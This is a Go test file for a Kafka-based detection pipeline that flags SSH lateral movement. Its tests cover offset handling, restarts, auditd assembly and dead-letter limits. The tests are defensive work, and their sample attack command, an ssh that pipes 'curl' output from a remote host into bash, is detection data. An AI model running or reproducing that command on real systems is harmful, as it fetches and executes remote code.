package consumer

import (
	"bytes"
	"context"
	"encoding/binary"
	"fmt"
	"os"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/twmb/franz-go/pkg/kgo"

	"github.com/sshlateral/sshlateral/processor"
	"github.com/sshlateral/sshlateral/producer"
)

// Review tests: each fails on the code it names and describes the defect.

// recorder is a delivery that keeps every batch and, when next is set,
// hands it on (to write it to Kafka).
type recorder struct {
	mu      sync.Mutex
	batches []*batch
	next    delivery
}

func (r *recorder) deliver(ctx context.Context, w *worker, b *batch) error {
	r.mu.Lock()
	r.batches = append(r.batches, b)
	r.mu.Unlock()
	if r.next != nil {
		return r.next.deliver(ctx, w, b)
	}
	return nil
}

func (r *recorder) all() []*batch {
	r.mu.Lock()
	defer r.mu.Unlock()
	return append([]*batch(nil), r.batches...)
}

// storedOffset returns the last resume offset the batches wrote to the
// changelog, or -1.
func storedOffset(bs []*batch) int64 {
	off := int64(-1)
	for _, b := range bs {
		for _, r := range b.changelog {
			if string(r.Key) == offsetKey {
				off = int64(binary.BigEndian.Uint64(r.Value))
			}
		}
	}
	return off
}

// plainClient is a client without a group: MarkCommitRecords is a no-op,
// produced records land in the cluster.
func plainClient(t *testing.T, seeds []string) *kgo.Client {
	t.Helper()
	cl, err := kgo.NewClient(kgo.SeedBrokers(seeds...), kgo.ProducerBatchMaxBytes(4<<20))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(cl.Close)
	return cl
}

// newPipeline returns a pipeline of cfg with the Avro encoder.
func newPipeline(t *testing.T, cfg Config) *Pipeline {
	t.Helper()
	enc, err := producer.NewEncoder(producer.EncoderConfig{Topic: cfg.OutputTopic})
	if err != nil {
		t.Fatal(err)
	}
	p, err := New(cfg, enc)
	if err != nil {
		t.Fatal(err)
	}
	return p
}

// restoredWorker returns partition 0's worker of a new pipeline, restored
// from the cluster's changelog as after an assignment. With persist, its
// batches are written at-least-once through cl.
func restoredWorker(t *testing.T, cfg Config, cl *kgo.Client, persist bool) (*worker, *recorder) {
	t.Helper()
	p := newPipeline(t, cfg)
	rec := &recorder{}
	if persist {
		rec.next = &atLeastOnce{p: p}
	}
	w := p.newWorker(cl, rec, 0)
	if err := w.restore(context.Background()); err != nil {
		t.Fatal(err)
	}
	return w, rec
}

// reviewCluster returns a test config on a new one-partition cluster and a
// plain client of it.
func reviewCluster(t *testing.T) (Config, *kgo.Client) {
	t.Helper()
	cfg := testConfig(nil)
	c := newTestCluster(t, 1, topicsOf(cfg)...)
	cfg.Brokers = c.seeds
	return cfg, plainClient(t, c.seeds)
}

// inputRecords returns values as input records of partition 0 from offset
// first on, appended now.
func inputRecords(topic string, first int64, values ...[]byte) []*kgo.Record {
	now := time.Now()
	out := make([]*kgo.Record, len(values))
	for i, v := range values {
		out[i] = &kgo.Record{Topic: topic, Partition: 0, Offset: first + int64(i), Value: v, Timestamp: now}
	}
	return out
}

func mustHandle(t *testing.T, w *worker, j job) {
	t.Helper()
	if j.highWater == 0 {
		j.highWater = -1
	}
	if err := w.handle(context.Background(), j); err != nil {
		t.Fatal(err)
	}
}

// auditLines returns the lines of testdata/synthetic/positives_auditd.log
// whose stamp has the given serial: SYSCALL, EXECVE, CWD, PATH, PROCTITLE,
// EOE for 5003 (an ssh matching the detection).
func auditLines(t *testing.T, serial string) [][]byte {
	t.Helper()
	raw, err := os.ReadFile("../testdata/synthetic/positives_auditd.log")
	if err != nil {
		t.Fatal(err)
	}
	var out [][]byte
	for _, l := range strings.Split(string(raw), "\n") {
		if strings.Contains(l, ":"+serial+"):") {
			out = append(out, []byte(l))
		}
	}
	if len(out) == 0 {
		t.Fatalf("no auditd lines of serial %s", serial)
	}
	return out
}

// finalCounts closes every window of w's partition and returns each group's
// count by alert id.
func finalCounts(w *worker) map[string]int64 {
	out := map[string]int64{}
	for _, r := range w.part.Flush(nil) {
		out[r.Key.Dest+"/"+r.Key.User] += r.Count
	}
	return out
}

// sysmonEvent is one Sysmon process-create event.
func sysmonEvent(host, image, cmd string, at time.Time) []byte {
	return fmt.Appendf(nil, `<Event><System><Provider Name="Linux-Sysmon"/><EventID>1</EventID><TimeCreated SystemTime="%s"/>`+
		`<Computer>%s</Computer></System><EventData><Data Name="UtcTime">%s</Data><Data Name="ProcessId">4242</Data>`+
		`<Data Name="Image">%s</Data><Data Name="CommandLine">%s</Data><Data Name="User">root</Data>`+
		`<Data Name="ParentProcessId">1</Data><Data Name="ParentImage">/usr/bin/bash</Data><Data Name="ParentCommandLine">bash</Data></EventData></Event>`,
		at.UTC().Format(time.RFC3339Nano), host, at.UTC().Format("2006-01-02 15:04:05.000"), image, cmd)
}

const matchingCmd = "ssh -oBatchMode=yes -oStrictHostKeyChecking=no 10.0.1.20 curl -o- http://downsnapp.site/ks | bash"

// TestReplayBelowRestoredOffsetKeepsIt: at-least-once commits lag the
// changelog's resume offset (marks are committed every few seconds), so a
// restarted worker re-reads records below skipBelow. If it is revoked or
// stopped while still below skipBelow, its flush writes the lower offset
// (worker.go flushChangelog: encodeOffset(w.nextOffset)) over the higher one,
// while the state it leaves still reflects every record below skipBelow: the
// next owner applies those records a second time.
func TestReplayBelowRestoredOffsetKeepsIt(t *testing.T) {
	cfg, cl := reviewCluster(t)
	if err := cl.ProduceSync(context.Background(), &kgo.Record{Topic: cfg.Group + ".state-changelog",
		Key: []byte(offsetKey), Value: encodeOffset(10)}).FirstErr(); err != nil {
		t.Fatal(err)
	}
	w, rec := restoredWorker(t, cfg, cl, false)
	if w.skipBelow != 10 {
		t.Fatalf("skipBelow %d, want 10", w.skipBelow)
	}
	lines := sampleLines(t)
	// Offsets 0..4 are already in the restored state; then the partition is
	// revoked (the stop flushes).
	mustHandle(t, w, job{recs: inputRecords(cfg.InputTopic, 0, lines[:5]...), flush: true})
	if got := storedOffset(rec.all()); got != -1 && got < 10 {
		t.Fatalf("flush after replaying offsets 0..4 stored resume offset %d over 10: offsets %d..9 are in the state and would be applied again", got, got)
	}
}

// TestAuditdReplayNotAppliedTwice: an auditd event without EOE completes on
// a tick (wall-clock timeout) after the flush that stored the resume offset
// past it but marked only up to its first record. After a restart the
// worker re-reads its records below skipBelow "to rebuild the assembly", and
// the assembly completes again (tick or stream time) and is applied to a
// state that already counts it (worker.go step: replayed assemblies are put
// back into the decoder, and drainReady applies whatever completes).
func TestAuditdReplayNotAppliedTwice(t *testing.T) {
	cfg, cl := reviewCluster(t)
	cfg.Processor.Emit = processor.EmitFinal // Flush then reports each group's count
	ev := auditLines(t, "5003")
	ev = ev[:len(ev)-1] // no EOE, as many shippers send it
	now := time.Now()

	a, _ := restoredWorker(t, cfg, cl, true)
	mustHandle(t, a, job{recs: inputRecords(cfg.InputTopic, 0, ev...), now: now, flush: true})
	mustHandle(t, a, job{now: now.Add(3 * time.Second), flush: true}) // the tick completes it
	want := finalCounts(a)
	if len(want) == 0 {
		t.Fatal("the event was not detected before the restart")
	}

	b, _ := restoredWorker(t, cfg, cl, true)
	if b.skipBelow != int64(len(ev)) {
		t.Fatalf("skipBelow %d, want %d", b.skipBelow, len(ev))
	}
	// At-least-once: the committed offset was the assembly's first record.
	mustHandle(t, b, job{recs: inputRecords(cfg.InputTopic, 0, ev...), now: now.Add(4 * time.Second)})
	mustHandle(t, b, job{now: now.Add(8 * time.Second), flush: true})
	if got := finalCounts(b); fmt.Sprint(got) != fmt.Sprint(want) {
		t.Fatalf("counts after restart %v, want %v: the replayed assembly was applied twice", got, want)
	}
}

// TestAuditdReplayHoldsOffset: an assembly open at a restart is rebuilt from
// records below skipBelow, but the held record is set only for records at
// or past skipBelow (worker.go step: the replay branch never sets w.held).
// The next flush marks past the assembly's first records, so after another
// restart they are never read again and the event is lost.
func TestAuditdReplayHoldsOffset(t *testing.T) {
	cfg, cl := reviewCluster(t)
	ev := auditLines(t, "5003")
	now := time.Now()

	// SYSCALL and EXECVE arrive, the flush stores resume offset 2 and marks
	// nothing (held at offset 0); the process stops before the rest.
	a, recA := restoredWorker(t, cfg, cl, true)
	mustHandle(t, a, job{recs: inputRecords(cfg.InputTopic, 0, ev[:2]...), now: now, flush: true})
	if bs := recA.all(); bs[len(bs)-1].last == nil || bs[len(bs)-1].last.Offset != -1 {
		t.Fatalf("first run marked %v, want offset -1 (held at 0)", bs[len(bs)-1].last)
	}

	// Restart from committed offset 0: offsets 0,1 replayed, then an
	// unrelated record at offset 2.
	b, recB := restoredWorker(t, cfg, cl, true)
	other := sysmonEvent("db-01", "/usr/bin/ls", "ls -la", now.Add(-time.Hour))
	recs := append(inputRecords(cfg.InputTopic, 0, ev[:2]...), inputRecords(cfg.InputTopic, 2, other)...)
	mustHandle(t, b, job{recs: recs, now: now.Add(time.Second), flush: true})
	bs := recB.all()
	if last := bs[len(bs)-1].last; last != nil && last.Offset >= 0 {
		t.Fatalf("after the restart the flush marked offset %d (commit %d) while the assembly opened at offset 0 is still open",
			last.Offset, last.Offset+1)
	}
}

// TestAuditdHeldOffsetAdvances: held is the first record since InFlight was
// last zero, not the first record of the oldest open assembly. A stream in
// which some assembly is always open (events without EOE completed by the
// stream's own time, interleaved hosts, or a hostile producer sending one
// such line per second) never lets the committed offset move.
func TestAuditdHeldOffsetAdvances(t *testing.T) {
	cfg, cl := reviewCluster(t)
	w, rec := restoredWorker(t, cfg, cl, false)
	base := time.Now().Add(-time.Hour).Unix()
	var lines [][]byte
	for i := range int64(20) {
		// connect(2) without EOE, one per second: each completes once a
		// record of its node stamped 2 s later arrives.
		lines = append(lines, fmt.Appendf(nil, "node=hx type=SYSCALL msg=audit(%d.000:%d): arch=c000003e syscall=42 success=yes exit=0 ppid=1 pid=%d uid=0 comm=\"curl\" exe=\"/usr/bin/curl\"",
			base+i, 9000+i, 100+i))
	}
	mustHandle(t, w, job{recs: inputRecords(cfg.InputTopic, 0, lines...), flush: true})
	bs := rec.all()
	last := bs[len(bs)-1].last
	// Assemblies of offsets 0..17 are complete; 18 and 19 are open.
	if last == nil || last.Offset < 17 {
		t.Fatalf("marked %v after 20 records of which only the last 2 are in open assemblies: want offset 17", last)
	}
}

// TestOldRecordTimestampKeepsMatch: the record's append time (producer
// CreateTime) stands in for "now" in Process, which ignores an event more
// than MaxFuture ahead of it. A shipper whose clock (or timezone) is behind
// the host's makes every true positive "future" and silently ignored: not
// dead-lettered (the worker checked the wall clock), only counted in
// PartitionStat.Ignored.
func TestOldRecordTimestampKeepsMatch(t *testing.T) {
	cfg, cl := reviewCluster(t)
	w, rec := restoredWorker(t, cfg, cl, false)
	now := time.Now()
	r := inputRecords(cfg.InputTopic, 0, sysmonEvent("web-01", "/usr/bin/ssh", matchingCmd, now.Add(-time.Minute)))
	r[0].Timestamp = now.Add(-2 * time.Hour) // shipper clock 2 h behind
	mustHandle(t, w, job{recs: r, now: now})
	risk := 0
	for _, b := range rec.all() {
		risk += len(b.risk) + len(b.deadLetters)
	}
	if risk == 0 {
		t.Fatalf("a true positive timed one minute ago produced no risk record and no dead letter (ignored: %d)", w.part.Stats().Ignored)
	}
}

// TestDeadLetterHeadersBounded: the source headers are copied when their
// key and value bytes total at most maxSourceHeaders, but each header costs
// bytes of its own: a record with many empty headers (a hostile producer
// fits about 300,000 in 1 MB) is copied whole, and its dead letter is
// rejected with and without its value.
func TestDeadLetterHeadersBounded(t *testing.T) {
	src := &kgo.Record{Topic: "in", Value: []byte("x"), Headers: make([]kgo.RecordHeader, 300_000)}
	dl := buildDeadLetter("dlq", src, DLQReasonDecode, "bad", 1<<10)
	size := 0
	for _, h := range dl.Headers {
		size += len(h.Key) + len(h.Value) + 3 // two length varints and the attribute-free header framing
	}
	if size > maxSourceHeaders+4<<10 {
		t.Fatalf("dead letter carries %d headers (~%d bytes), over the %d-byte bound", len(dl.Headers), size, maxSourceHeaders)
	}
}

// TestAuditdAcrossRestart: an auditd event whose records straddle a stop
// (graceful: the final flush and commit run) is still detected after the
// restart. At-least-once holds the committed offset at the assembly's first
// record; exactly-once commits every polled offset with the transaction
// (GroupTransactSession.End commits UncommittedOffsets, not marks), so the
// held offset is ignored and the restarted worker sees the assembly without
// its SYSCALL and EXECVE records: the event is lost.
func TestAuditdAcrossRestart(t *testing.T) {
	for _, g := range []Guarantee{AtLeastOnce, ExactlyOnce} {
		t.Run(g.String(), func(t *testing.T) {
			cfg := testConfig(nil)
			c := newTestCluster(t, 1, topicsOf(cfg)...)
			cfg.Brokers = c.seeds
			cfg.Guarantee = g
			cfg.TransactionTimeout = 3 * time.Second
			ev := auditLines(t, "5003")
			produceValues(t, c.seeds, cfg.InputTopic, ev[:2]...)
			first := runUntil(t, cfg, func(s Stats) bool { return s.Consumed >= 2 })
			produceValues(t, c.seeds, cfg.InputTopic, ev[2:]...)
			start := time.Now()
			second := runUntil(t, cfg, func(s Stats) bool {
				return s.Consumed >= int64(len(ev)-2) && (s.RecordsWritten > 0 || time.Since(start) > 5*time.Second)
			})
			if n := first.Results["EARLY"] + second.Results["EARLY"]; n != 1 {
				t.Fatalf("EARLY results %d over both runs, want 1 (the ssh event whose records straddle the restart; the second run read %d records)",
					n, second.Consumed)
			}
		})
	}
}

// TestLostPartitionWritesNoState: OnPartitionsLost means another member may
// already own the partition and have restored its state. The stopping
// worker still flushes its pending changelog (worker.go run: the quit path
// runs handle(flush) whatever the reason), so a zombie's stale values and
// resume offset land after the new owner's: the next restore mixes both.
func TestLostPartitionWritesNoState(t *testing.T) {
	cfg, cl := reviewCluster(t)
	cfg.CommitInterval = time.Hour // nothing flushes before the loss
	p := newPipeline(t, cfg)
	rec := &recorder{}
	p.startWorkers(context.Background(), cl, rec, []int32{0})
	w, _ := p.worker(cfg.InputTopic, 0)
	reply := make(chan error, 1)
	w.jobs <- job{recs: inputRecords(cfg.InputTopic, 0, sampleLines(t)[:5]...), highWater: -1, reply: reply}
	if err := <-reply; err != nil {
		t.Fatal(err)
	}
	p.lost(context.Background(), cl, map[string][]int32{cfg.InputTopic: {0}})
	for _, b := range rec.all() {
		if len(b.changelog) > 0 || b.last != nil {
			t.Fatalf("after the partition was lost its worker wrote %d changelog records (resume offset %d) and marked %v",
				len(b.changelog), storedOffset([]*batch{b}), b.last != nil)
		}
	}
}

// smallEncoder writes one small record per result: the risk record itself
// is not what this test is about.
type smallEncoder struct{ topic string }

func (e smallEncoder) Records(results []processor.Result, dst []*kgo.Record) ([]*kgo.Record, error) {
	for _, r := range results {
		dst = append(dst, &kgo.Record{Topic: e.topic, Key: []byte(r.AlertID), Value: []byte(r.Emission.String())})
	}
	return dst, nil
}

// TestHugeMatchDoesNotStopPartition: a matching event whose command line
// is just under MaxRecordBytes becomes a group whose changelog value holds
// the whole command line (processor/state.go encodeGroup), over franz-go's
// 1,000,012-byte record limit: the changelog write fails for good, Run
// returns the error, and a restart reads the same record again. One record
// stops the partition forever, and nothing after it is detected.
func TestHugeMatchDoesNotStopPartition(t *testing.T) {
	cfg, pcl := reviewCluster(t)
	now := time.Now()
	huge := sysmonEvent("web-01", "/usr/bin/ssh", matchingCmd+" #"+strings.Repeat("A", 1_010_000), now.Add(-2*time.Minute))
	if len(huge) > cfg.MaxRecordBytes {
		t.Fatalf("input of %d bytes is over MaxRecordBytes", len(huge))
	}
	next := sysmonEvent("web-02", "/usr/bin/ssh", matchingCmd, now.Add(-time.Minute))
	if err := pcl.ProduceSync(context.Background(),
		&kgo.Record{Topic: cfg.InputTopic, Value: huge}, &kgo.Record{Topic: cfg.InputTopic, Value: next}).FirstErr(); err != nil {
		t.Fatal(err)
	}
	p, err := New(cfg, smallEncoder{cfg.OutputTopic})
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan error, 1)
	go func() { done <- p.Run(ctx) }()
	deadline := time.After(20 * time.Second)
	for p.Stats().RecordsWritten < 2 {
		select {
		case err := <-done:
			cancel()
			t.Fatalf("Run ended after %d records with %v: a restart would fail on the same record", p.Stats().Consumed, err)
		case <-deadline:
			cancel()
			t.Fatalf("both matches not written in 20s: %+v", p.Stats())
		case <-time.After(50 * time.Millisecond):
		}
	}
	cancel()
	if err := <-done; err != nil {
		t.Fatal(err)
	}
}

// gate is a delivery that blocks partition 0's batches until opened.
type gate struct {
	entered chan struct{}
	open    chan struct{}
}

func (g *gate) deliver(ctx context.Context, w *worker, b *batch) error {
	if w.tp.partition == 0 && len(b.changelog) == 0 {
		select {
		case g.entered <- struct{}{}:
		default:
		}
		<-g.open
	}
	return nil
}

// TestRebuildRacesRevoke: exactly-once has no BlockRebalanceOnPoll, so a
// revoke may run while rebuildWorkers (after an abort) waits for the old
// workers. rebuildWorkers took its list of partitions before, and starts a
// worker for the revoked partition after: an orphan that owns no
// partition, keeps its restored state in the process byte budget, reports
// itself running in Partitions, and is never stopped (a later assignment
// of the partition overwrites it in the map).
func TestRebuildRacesRevoke(t *testing.T) {
	cfg := testConfig(nil)
	c := newTestCluster(t, 2, topicsOf(cfg)...)
	cfg.Brokers = c.seeds
	cfg.Guarantee = ExactlyOnce
	cfg.TransactionTimeout = 3 * time.Second
	cl := plainClient(t, c.seeds)
	p, err := New(cfg, smallEncoder{cfg.OutputTopic})
	if err != nil {
		t.Fatal(err)
	}
	g := &gate{entered: make(chan struct{}, 1), open: make(chan struct{})}
	p.startWorkers(context.Background(), cl, g, []int32{0, 1})
	waitRunning := func(part int32) *worker {
		t.Helper()
		for range 200 {
			if w, ok := p.worker(cfg.InputTopic, part); ok && w.State() == StateRunning {
				return w
			}
			time.Sleep(10 * time.Millisecond)
		}
		t.Fatalf("partition %d not running", part)
		return nil
	}
	w0 := waitRunning(0)
	waitRunning(1)
	// Partition 0's worker is busy with a batch (a slow write).
	w0.jobs <- job{recs: inputRecords(cfg.InputTopic, 0, sampleLines(t)[:1]...), highWater: -1}
	<-g.entered
	rebuilt := make(chan struct{})
	go func() {
		defer close(rebuilt)
		p.rebuildWorkers(context.Background(), cl, g)
	}()
	// rebuildWorkers has taken both workers out of the map; partition 1 is
	// revoked meanwhile.
	for range 200 {
		if len(p.ownedPartitions()) == 0 {
			break
		}
		time.Sleep(5 * time.Millisecond)
	}
	p.revoked(context.Background(), cl, g, map[string][]int32{cfg.InputTopic: {1}})
	close(g.open)
	<-rebuilt
	if w, ok := p.worker(cfg.InputTopic, 1); ok {
		t.Errorf("after partition 1 was revoked during the rebuild a worker for it exists (state %s)", w.State())
	}
	p.stopAllWorkers()
}

// TestExactlyOnceHugeDeadLetter: a record of 1 MB made of empty headers and
// an undecodable value. Its dead letter copies every header (their key and
// value bytes total 0, under maxSourceHeaders) and goes over franz-go's
// 1,000,012-byte record limit. At-least-once writes it again without its
// value; exactly-once has no such fallback (delivery.go exactlyOnce.deliver):
// the transaction aborts with a permanent error and Run returns it, on
// every restart.
func TestExactlyOnceHugeDeadLetter(t *testing.T) {
	for _, g := range []Guarantee{AtLeastOnce, ExactlyOnce} {
		t.Run(g.String(), func(t *testing.T) {
			cfg, pcl := reviewCluster(t)
			cfg.Guarantee = g
			cfg.TransactionTimeout = 3 * time.Second
			hostile := &kgo.Record{Topic: cfg.InputTopic, Value: bytes.Repeat([]byte("x"), 200_000),
				Headers: make([]kgo.RecordHeader, 410_000)}
			next := sysmonEvent("web-02", "/usr/bin/ssh", matchingCmd, time.Now().Add(-time.Minute))
			if err := pcl.ProduceSync(context.Background(), hostile, &kgo.Record{Topic: cfg.InputTopic, Value: next}).FirstErr(); err != nil {
				t.Fatal(err)
			}
			p := newPipeline(t, cfg)
			ctx, cancel := context.WithCancel(context.Background())
			defer cancel()
			done := make(chan error, 1)
			go func() { done <- p.Run(ctx) }()
			deadline := time.After(20 * time.Second)
			for p.Stats().RecordsWritten < 2 {
				select {
				case err := <-done:
					t.Fatalf("Run ended with %v: a restart fails on the same record", err)
				case <-deadline:
					t.Fatalf("the match after the hostile record not written in 20s: %+v", p.Stats())
				case <-time.After(50 * time.Millisecond):
				}
			}
		})
	}
}

// TestCatchUpHostIsolation: reading a backlog hours later, host B's
// records appended long before the time they carry (B's clock is ahead)
// must not close host A's windows: A's later backlog match still counts in
// its window, not as LATE. (The arrival raised to B's event time moved the
// partition line to the present.) B's event is a record of its own, or an
// auditd event completed by B's next record (not by EOE), whose arrival is
// that record's append time, not the wall clock.
func TestCatchUpHostIsolation(t *testing.T) {
	stamp := func(t time.Time, serial int) string {
		return fmt.Sprintf("msg=audit(%d.%03d:%d):", t.Unix(), t.UnixMilli()%1000, serial)
	}
	for _, tc := range []struct {
		name  string
		hostB func(bt time.Time) [][]byte // host B's records, dated bt
	}{
		{"a record", func(bt time.Time) [][]byte {
			return [][]byte{sysmonEvent("host-b", "/usr/bin/ls", "ls", bt)}
		}},
		{"an auditd event completed by the next record", func(bt time.Time) [][]byte {
			return [][]byte{
				[]byte(`node=host-b type=SYSCALL ` + stamp(bt, 7) + ` arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=4 items=1 ppid=1 pid=2 uid=0 comm="ls" exe="/usr/bin/ls" key=(null)`),
				[]byte(`node=host-b type=EXECVE ` + stamp(bt, 7) + ` argc=1 a0="ls"`),
				[]byte(`node=host-b type=SYSCALL ` + stamp(bt.Add(10*time.Second), 8) + ` arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=4 items=1 ppid=1 pid=3 uid=0 comm="ls" exe="/usr/bin/ls" key=(null)`),
			}
		}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			cfg, cl := reviewCluster(t)
			cfg.Processor.Emit = processor.EmitFinal
			w, _ := restoredWorker(t, cfg, cl, false)
			wall := time.Now()
			// A window start (:50) eight hours back, and records of the
			// backlog appended a second after their event time; host B's
			// at a1+1m, though dated a minute before the wall clock.
			ws := wall.Add(-8 * time.Hour).Truncate(time.Hour).Add(-10 * time.Minute)
			a1, a2 := ws.Add(10*time.Minute), ws.Add(15*time.Minute)
			hostB := tc.hostB(wall.Add(-time.Minute))
			values := [][]byte{sysmonEvent("host-a", "/usr/bin/ssh", matchingCmd, a1)}
			appended := []time.Time{a1}
			for _, v := range hostB {
				values, appended = append(values, v), append(appended, a1.Add(time.Minute))
			}
			values = append(values,
				sysmonEvent("host-a", "/usr/bin/ssh", matchingCmd+" #2", a2),
				sysmonEvent("host-c", "/usr/bin/ls", "ls", ws.Add(2*time.Hour))) // closes A's window
			appended = append(appended, a2, ws.Add(2*time.Hour))
			recs := inputRecords(cfg.InputTopic, 0, values...)
			for i, at := range appended {
				recs[i].Timestamp = at.Add(time.Second)
			}
			mustHandle(t, w, job{recs: recs, now: wall})
			st := w.p.Stats()
			if st.Results["LATE"] != 0 || st.Results["FINAL"] != 2 {
				t.Fatalf("results %v (late %d): want host A's two groups FINAL in their window, none LATE", st.Results, w.part.Stats().Late)
			}
		})
	}
}
